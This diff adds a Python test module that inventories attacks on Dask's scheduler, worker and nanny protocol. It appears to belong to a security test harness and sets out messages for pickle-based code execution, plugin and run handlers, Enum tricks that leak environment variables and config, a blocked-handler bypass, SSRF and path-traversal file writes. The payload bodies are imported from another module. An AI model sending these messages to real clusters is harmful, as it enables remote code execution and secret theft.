@@ -1,0 +1,324 @@
+"""The attacks on servers, one row for each in the inventory of Dask's protocol.
+
+The one rule: a row is one message and what stock Dask makes of it. ``runs=False`` is for what stock
+Dask was measured not to run either; every other row counts only if it ran in the same job.
+"""
+
+from __future__ import annotations
+
+import pickle
+from dataclasses import dataclass
+from typing import Any
+
+from tests.dask.live.payloads import Evil, Here
+
+__all__ = ["NEW_MODULE", "ROWS", "Row"]
+
+
+@dataclass(frozen=True, slots=True)
+class Row:
+    """One attack on a server.
+
+    :param name: as the inventory has it.
+    :param target: who is sent it: ``scheduler``, ``worker`` or ``nanny``; with ``blocked-`` before
+        it, stock Dask is one whose configuration blocks ``run_function``.
+    :param say: the messages; a first one that registers opens a stream for what follows.
+        ``greet`` in place of an operation stands for Dask's handshake.
+    :param runs: whether it works on stock Dask.
+    :param effect: what shows that: ``ran`` (a marker), ``leaked`` (a secret in the answer),
+        ``wrote`` (a file of the sender's choice) or ``imported``.
+    :param by: who runs it, if not the target.
+    :param authority: the operation is the attack, payload or none: whoever is granted it, may.
+    """
+
+    name: str
+    target: str
+    say: tuple[dict[str, Any], ...]
+    runs: bool = True
+    effect: str = "ran"
+    by: str = ""
+    authority: bool = False
+
+
+def _ask(op: str, /, **fields: Any) -> dict[str, Any]:
+    return {"op": op, **fields}
+
+
+_CLIENT = _ask("register-client", client=Here("client"), reply=False, versions={})
+_GRAPH = _ask(
+    "update-graph",
+    expr_ser=Evil("opaque"),
+    keys=["x"],
+    internal_priority=None,
+    submitting_task=None,
+    span_metadata={"collections": []},
+)
+_REGISTER_WORKER = _ask(
+    "register-worker",
+    reply=False,
+    address=Here("nobody"),
+    status="running",
+    server_id=Here("client"),
+    nthreads=1,
+    name=Here("client"),
+    resolve_address=False,
+    now=0.0,
+    resources={},
+    memory_limit=1 << 30,
+    metrics={
+        "memory": 0,
+        "bandwidth": {"total": 1, "workers": {}, "types": {}},
+        "digests_total_since_heartbeat": {},
+        "spilled_bytes": {"memory": 0, "disk": 0},
+    },
+    services={},
+    local_directory="",
+    versions={},
+    nanny=None,
+    extra={},
+    stimulus_id="x",
+)
+_TASK = _ask(
+    "compute-task",
+    key="x",
+    run_id=1,
+    run_spec=Evil("pickled"),
+    who_has={},
+    nbytes={},
+    priority=[0],
+    duration=1.0,
+    stimulus_id="x",
+    resource_restrictions=None,
+    actor=False,
+    annotations={},
+    span_id="x",
+    function="",
+    args="",
+    kwargs="",
+)
+
+
+def _enum(module: str, name: str, member: str) -> dict[str, Any]:
+    """Return what makes Dask's decoder take two attributes of any of its modules."""
+    read = {"__Enum__": True, "__module__": module, "__name__": name, "name": member}
+    return _ask("echo", data=read)
+
+
+_ENVIRON = _enum("distributed.utils", "os", "environ")
+_CONFIG = _enum("dask", "config", "config")
+_BOKEH = _enum("distributed.bokeh", "os", "environ")
+#: Not imported by any server. The inventory asked for distributed.cli.dask_ssh, which the command
+#: line of today imports by itself.
+NEW_MODULE = "dask.diagnostics.profile_visualize"
+_IMPORT = _enum(NEW_MODULE, "os", "environ")
+
+_RUN = _ask("run", function=Evil("bytes", "print"), wait=True)
+_NOTED = _ask("identity", note=Evil("opaque"))
+_PLUGIN = {"plugin": Evil("bytes"), "name": "x", "idempotent": False}
+_UPLOAD = _ask("upload_file", filename=Here("module-name"), data=Here("module"))
+
+_FORMS = {
+    "__Pickled__": "pickled",
+    "Serialized-pickle": "opaque",
+    "Serialized-dask-type": "dask-type",
+    "numpy-object-array": "object-array",
+}
+
+
+def _handshakes(who: str) -> tuple[Row, ...]:
+    return tuple(
+        Row(
+            f"{who}.handshake.{form}",
+            who,
+            (_ask("greet", note=Evil(_FORMS[form])),),
+            runs=who != "scheduler" or form == "__Pickled__",
+        )
+        for form in ("__Pickled__", "Serialized-dask-type")
+    )
+
+
+def _any_operation(who: str) -> tuple[Row, ...]:
+    return tuple(
+        Row(
+            f"{who}.any-op.{form}",
+            who,
+            (_ask("identity", note=Evil(how)),),
+            # A scheduler passes on what it is not told to open.
+            runs=who != "scheduler" or form == "__Pickled__",
+        )
+        for form, how in _FORMS.items()
+    )
+
+
+def _leaks(who: str) -> tuple[Row, ...]:
+    return (
+        Row(f"{who}.Enum->echo leaks os.environ", who, (_ENVIRON,), effect="leaked"),
+        Row(f"{who}.Enum->echo leaks dask.config.config", who, (_CONFIG,), effect="leaked"),
+        Row(
+            f"{who}.Enum imports arbitrary dask/distributed submodule (distributed.bokeh)",
+            who,
+            (_BOKEH,),
+            runs=False,
+            effect="leaked",
+        ),
+    )
+
+
+def _on(target: str, name: str, *say: dict[str, Any], **more: Any) -> Row:
+    return Row(f"{target}.{name}", target, say, **more)
+
+
+def _by(who: str, name: str, *say: dict[str, Any], **more: Any) -> Row:
+    return Row(f"scheduler.{name}", "scheduler", say, by=who, **more)
+
+
+_KEY = Evil("bytes", "__import__('operator').attrgetter('address')")
+
+_SCHEDULER = (
+    _on("scheduler", "run_function", _ask("run_function", function=Evil("bytes", "print"))),
+    _on(
+        "scheduler",
+        "feed.setup",
+        _ask("feed", function=pickle.dumps(print), setup=Evil("bytes", "print"), interval=9),
+    ),
+    _on("scheduler", "register_scheduler_plugin", _ask("register_scheduler_plugin", **_PLUGIN)),
+    _on("scheduler", "workers_to_close.key", _ask("workers_to_close", n=1, minimum=9, key=_KEY)),
+    _on("scheduler", "update-graph.expr_ser(client stream)", _CLIENT, _GRAPH),
+    _on(
+        "scheduler",
+        "client-stream.__Pickled__",
+        _CLIENT,
+        _ask("heartbeat-client", note=Evil("pickled")),
+    ),
+    _on(
+        "scheduler",
+        "connection_stream->update-graph(no client registration)",
+        _ask("connection_stream"),
+        {**_GRAPH, "client": "nobody"},
+    ),
+    _by("worker", "register_worker_plugin->worker", _ask("register_worker_plugin", **_PLUGIN)),
+    _by("worker", "broadcast>run->worker", _ask("broadcast", msg=_RUN)),
+    _by("nanny", "broadcast>run->nanny", _ask("broadcast", msg=_RUN, nanny=True)),
+    _by("worker", "proxy>run->worker", _ask("proxy", msg=_RUN, worker=Here("worker"))),
+    _by(
+        "worker",
+        "proxy>nested Serialized->worker",
+        _ask("proxy", msg=_NOTED, worker=Here("worker")),
+    ),
+    _by(
+        "worker",
+        "scatter->worker update_data",
+        _ask("scatter", data={"x": Evil("opaque")}, workers=None, client="nobody"),
+    ),
+    _by(
+        "worker",
+        "broadcast>upload_file->worker (msgpack only)",
+        _ask("broadcast", msg=_UPLOAD),
+        authority=True,
+    ),
+    _on(
+        "scheduler",
+        "fake-worker reply to broadcast -> scheduler",
+        _ask("broadcast", msg=_ask("identity"), workers=[Here("hostile")]),
+    ),
+    _on(
+        "scheduler",
+        "worker-stream.__Pickled__",
+        _REGISTER_WORKER,
+        _ask("keep-alive", note=Evil("pickled")),
+    ),
+)
+
+_WORKER = (
+    _on("worker", "run", _RUN),
+    _on("worker", "run_coroutine", {**_RUN, "op": "run_coroutine"}),
+    _on("worker", "plugin-add", _ask("plugin-add", plugin=Evil("bytes"), name="x")),
+    _on("worker", "update_data.Serialized-pickle", _ask("update_data", data={"x": Evil("opaque")})),
+    _on(
+        "worker",
+        "actor_execute.args",
+        _ask("actor_execute", actor="x", function="f", args=[Evil("opaque")], kwargs={}),
+    ),
+    _on("worker", "upload_file(msgpack only)", _UPLOAD, authority=True),
+    _on("worker", "connection_stream->compute-task.run_spec", _ask("connection_stream"), _TASK),
+    _on(
+        "worker",
+        "gather(who_has=attacker tcp) SSRF pull",
+        _ask("gather", who_has={"pulled": [Here("hostile-tcp")]}),
+    ),
+)
+
+_NANNY = (
+    _on("nanny", "run", _RUN),
+    _on("nanny", "plugin_add", _ask("plugin_add", plugin=Evil("bytes"), name="x")),
+)
+
+_BLOCKED = (
+    Row(
+        "blocked.run_function op itself",
+        "blocked-scheduler",
+        (_ask("run_function", function=Evil("bytes", "print")),),
+        runs=False,
+    ),
+    Row(
+        "blocked-handlers bypass: __Pickled__ in a blocked op's body",
+        "blocked-scheduler",
+        (_ask("run_function", function=Evil("pickled")),),
+    ),
+    Row(
+        "blocked-handlers bypass: proxy>run (same code path as broadcast)",
+        "blocked-scheduler",
+        (_ask("proxy", msg=_RUN, worker=Here("worker")),),
+        by="blocked-worker",
+    ),
+    Row(
+        "blocked-handlers bypass: stream handler update-graph",
+        "blocked-scheduler",
+        (_CLIENT, _GRAPH),
+    ),
+)
+
+
+def _more_leaks(who: str) -> tuple[Row, ...]:
+    name = "Enum imports not-yet-imported submodule distributed.cli.dask_ssh"
+    return (
+        Row(
+            f"{who}.Enum->echo raw reply contains target-only env secret",
+            who,
+            (_ENVIRON,),
+            effect="leaked",
+        ),
+        _on(who, name, _IMPORT, effect="imported"),
+    )
+
+
+_FILES = (
+    _on(
+        "scheduler",
+        "dump_cluster_state_to_url writes attacker-chosen file (msgpack only)",
+        _ask("dump_cluster_state_to_url", url=Here("url"), exclude=[], format="yaml"),
+        effect="wrote",
+        authority=True,
+    ),
+    _on(
+        "worker",
+        "upload_file path traversal (load=False)",
+        _ask("upload_file", filename=Here("path"), data=b"x", load=False),
+        effect="wrote",
+        authority=True,
+    ),
+)
+
+ROWS = (
+    *(row for who in ("scheduler", "worker", "nanny") for row in _handshakes(who)),
+    *(row for who in ("scheduler", "worker", "nanny") for row in _any_operation(who)),
+    *_SCHEDULER,
+    *_leaks("scheduler"),
+    *_leaks("worker"),
+    *_WORKER,
+    *_NANNY,
+    *_BLOCKED,
+    *_more_leaks("scheduler"),
+    *_more_leaks("worker"),
+    *_FILES,
+)
